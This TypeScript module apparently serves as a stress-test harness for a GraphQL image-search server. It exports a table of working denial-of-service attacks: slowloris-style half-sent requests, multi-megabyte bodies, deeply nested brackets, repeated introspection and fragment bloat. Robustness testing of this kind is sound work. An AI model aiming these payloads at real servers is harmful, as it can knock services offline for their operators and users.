import { connect } from 'node:net';
import { once } from 'node:events';

type Attack = (url: string) => Promise<unknown>;

const CONNECTIONS = 256;
const HALF_SENT_SECONDS = 20;

/** Sends a body, with no interest in the answer. */
async function post(url: string, body: string, headers: Record<string, string> = {}): Promise<void> {
  const all = { 'content-type': 'application/json', ...headers };
  const answer = await fetch(`${url}/graphql`, { method: 'POST', headers: all, body }).catch(() => undefined);
  await answer?.arrayBuffer().catch(() => undefined);
}

const operation = (query: string, variables: unknown = {}) => JSON.stringify({ query, variables });
const list = (length: number, item: (index: number) => string) => Array.from({ length }, (_, n) => item(n)).join(' ');

/** Many connections, each with the beginning of a request, for a while. */
const halfSent =
  (method: string, type: string, start: string, length: number): Attack =>
  async (url) => {
    const { hostname, port, host } = new URL(url);
    const lines = [
      `${method} /graphql HTTP/1.1`,
      `Host: ${host}`,
      `Content-Type: ${type}`,
      `Content-Length: ${length}`,
    ];
    const more = ['Accept: text/html', 'Apollo-Require-Preflight: true', '', start];
    const sockets = await Promise.all(
      Array.from({ length: CONNECTIONS }, async () => {
        const socket = connect(Number(port), hostname).on('error', () => undefined);
        await once(socket, 'connect');
        socket.write([...lines, ...more].join('\r\n'));
        return socket;
      }),
    );
    await new Promise((resolve) => setTimeout(resolve, HALF_SENT_SECONDS * 1000));
    for (const socket of sockets) socket.destroy();
  };

const several =
  (times: number, attack: Attack): Attack =>
  (url) =>
    Promise.all(Array.from({ length: times }, () => attack(url)));

const typenames = list(3000, (n) => `a${n}: __typename`);
const costly = list(29, (n) => `m${n}: metadataFields(first: 100) { key values(first: 100) { value } }`);
const metadata = list(29, (n) => `i${n}: images(first: 100) { edges { node { metadata placeholder } } }`);
const introspection = list(
  29,
  (n) => `s${n}: __schema { types { fields { name type { fields { name description type { name } } } } } }`,
);

/** By what is wrong with them. Each is bounded in time and number. */
export const ATTACKS: Readonly<Record<string, Attack>> = {
  '256 half-sent JSON bodies': halfSent('POST', 'application/json', '{"query":', 1000),
  '256 half-sent GETs of a browser': halfSent('GET', 'application/json', '{"query":', 1000),
  '256 half-sent multipart bodies': halfSent(
    'POST',
    'multipart/form-data; boundary=x',
    '--x\r\nContent-Disposition: form-data; name="operations"\r\n\r\n{"query":',
    1000,
  ),
  '10 MB of brackets': (url) => post(url, `{"query":"{__typename}","variables":{"a":${'['.repeat(10_000_000)}`),
  '10 MB of nested lists, closed': (url) =>
    post(url, operation('{ __typename }').replace('{}', `{"a":${'['.repeat(5_000_000)}${']'.repeat(5_000_000)}}`)),
  '10 MB of small values, four times': several(4, (url) =>
    post(url, `{"query":"{__typename}","variables":{"a":[${'1,'.repeat(5_000_000)}1]}}`),
  ),
  '60 MB of text, four times': several(4, (url) =>
    post(url, operation('{ __typename }', { a: 'x'.repeat(60_000_000) })),
  ),
  '40 MB of base64 in 29 searches': (url) => {
    const searches = list(29, (n) => `s${n}: search(image: { base64: $image }) { id }`);
    // The beginning of a PNG, and nothing else of it.
    const image = `iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAIAAACQd1Pe${'A'.repeat(40_000_000)}`;
    return post(url, operation(`query ($image: String!) { ${searches} }`, { image }));
  },
  '10 MB document': (url) => post(url, operation(`{ __typename } #${'x'.repeat(10_000_000)}`)),
  '4 MB of operations in a form': (url) => {
    const form = new FormData();
    form.set('operations', `{"query":"{__typename}","variables":{"a":[${'[],'.repeat(1_300_000)}1]}}`);
    form.set('map', '{}');
    return fetch(`${url}/graphql`, { method: 'POST', body: form, headers: { 'apollo-require-preflight': 'true' } });
  },
  'null beside costly fields': (url) =>
    post(
      url,
      operation(`query ($n: Int = 9) { z: search(instruction: "x", limit: $n) { id } ${costly} }`, { n: null }),
    ),
  '3000 __typename in 29 lists': (url) =>
    post(
      url,
      operation(
        `{ ${list(29, (n) => `i${n}: images(first: 100) { edges { node { ...F } } }`)} } fragment F on Image { ${typenames} }`,
      ),
    ),
  '29 lists of long metadata': (url) => post(url, operation(`{ ${metadata} }`)),
  '29 times the schema': (url) => post(url, operation(`{ ${introspection} }`)),
  'the same field 3,000 times': (url) => post(url, operation(`{ ${'status { version } '.repeat(3000)} }`)),
  'the same field as often as may be': (url) => post(url, operation(`{ ${'status { version } '.repeat(790)} }`)),
  'the same field in 350 fragments': (url) => {
    const fragments = list(350, (n) => `fragment F${n} on Query { status { version } }`);
    return post(url, operation(`{ ${list(350, (n) => `...F${n}`)} } ${fragments}`));
  },
  '4,900 inline fragments, nested': (url) =>
    post(url, operation(`{ ${'... {'.repeat(3200)} __typename ${'}'.repeat(3200)} }`)),
};
